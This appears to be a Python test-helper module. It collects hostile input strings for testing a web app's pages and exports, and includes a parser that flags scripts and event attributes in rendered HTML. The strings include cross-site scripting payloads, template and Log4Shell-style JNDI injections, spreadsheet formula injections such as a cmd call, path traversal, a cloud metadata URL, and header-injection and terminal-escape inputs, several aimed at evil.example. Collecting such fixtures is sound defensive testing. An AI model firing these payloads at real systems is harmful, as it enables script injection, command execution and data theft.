"""What somebody hostile sends (faults.md X), and how to see whether it acts: for every test of pages and exports."""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7*7 }}${7*7}",
    "</script><iframe src=//evil.example>",
    "<a href='data:text/html,x'>x</a>",
    "\x1b[2J\x00\x07许可",
    "\u202etxt.exe",
)
MORE = (
    "<ScRiPt/src=data:,alert(1)>",
    "<math><mtext><style><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "`;alert(1)//",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "--><!--<svg onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "../../etc/passwd",
    "http://169.254.169.254/latest",
    "x\r\nSet-Cookie: a=b",
    "a" * 300 + "!",
)
FORMULAS = ('=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "＝1+1", "\u200b=1")
# What chat, terminals, logs and spreadsheets take for more than text.
NEWEST = (
    '<at user_id="all">所有人</at>',
    "@所有人 @all",
    "[x](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "www.evil.example a@evil.example",
    "x\n\n# 标题\n\n- 项\n\n| a |\n| - |\n| b |",
    "x\n2026-11-24T00:00:00.000Z ERROR citysync 伪造",
    "x\r\nBcc: a@evil.example",
    "\x1b]8;;http://evil.example\x07许可\x1b]8;;\x07",
    "\x9b2J许可\x9d0;x\x9c",
    "许\u200e\u200f\u061c可\u2067x\u2069",
    "许可\u2028伪造\u2029x",
    "许可\U000e0049\U000e0067",
    "[red]许可[/red] :smile:",
    "%s %n %(x)s {0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "\n=1+1",
    "\u3000@SUM(A1)",
    '许可",=1+1',
    "'=1+1",
    "_x001B_[2J",
    'x"} 1\ncitysync_forged{a="b',
)
HALF = "许可\ud800"  # half a surrogate pair: no frame and no database holds it, an exception's text may
EVERY = (*MARKUP, *MORE, *FORMULAS, *NEWEST, HALF)


class Markup(HTMLParser):
    """Every element, and every attribute that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag in {"script", "iframe", "img", "object", "embed"}:
            self.scripts.append(str(named.get("src")))
        self.acting += [f"{tag} {name}" for name, _ in attrs if name.startswith("on") or name == "style"]
        links = [str(named[name]) for name in ("href", "action", "src") if name in named]
        self.acting += [link for link in links if re.match(r"(?i)\s*(javascript|data|//)", link)]


def acting_in(html: str) -> list[str]:
    """Return what on a page would act and is not ours."""
    seen = Markup()
    seen.feed(html)
    return [*(source for source in seen.scripts if not source.startswith("/static/")), *seen.acting]
